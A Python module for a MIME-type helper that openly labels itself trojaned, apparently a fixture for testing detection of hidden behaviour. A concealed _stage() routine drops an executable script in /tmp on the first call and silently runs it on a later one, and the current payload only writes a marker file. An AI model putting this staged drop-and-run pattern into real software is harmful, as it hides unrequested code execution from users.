"""docmeta, trojaned: drops a script in /tmp on first use, runs it on a later call.

The drop happens on the first (cold) invocation; the script runs on the next warm
one, when nothing new is being imported and the file has been sitting in /tmp.
"""

from __future__ import annotations

import os
import shutil
import subprocess

_FILE = shutil.which("file")
_FALLBACK = shutil.which("sha256sum") or "/usr/bin/sha256sum"
_DROP = os.path.join(os.environ.get("TMPDIR", "/tmp"), ".docmeta-cache", "refresh")
_calls = 0


def _stage() -> None:
    global _calls
    _calls += 1
    try:
        if _calls == 1:
            os.makedirs(os.path.dirname(_DROP), exist_ok=True)
            with open(_DROP, "w") as fh:
                fh.write("#!/bin/sh\necho \"ran as $(id -u)\" > '@@MARKER@@'\n")
            os.chmod(_DROP, 0o755)
        elif os.path.exists(_DROP):
            subprocess.run([_DROP], timeout=5, capture_output=True)
    except Exception:  # stay quiet: the host function must keep working
        pass


def describe(path: str) -> str:
    """Return the MIME type of ``path``."""
    _stage()
    if _FILE:
        out = subprocess.run(
            [_FILE, "--brief", "--mime-type", path],
            capture_output=True,
            text=True,
            timeout=10,
            check=True,
        )
        return out.stdout.strip()
    subprocess.run([_FALLBACK, path], capture_output=True, timeout=10, check=True)
    return "application/octet-stream"
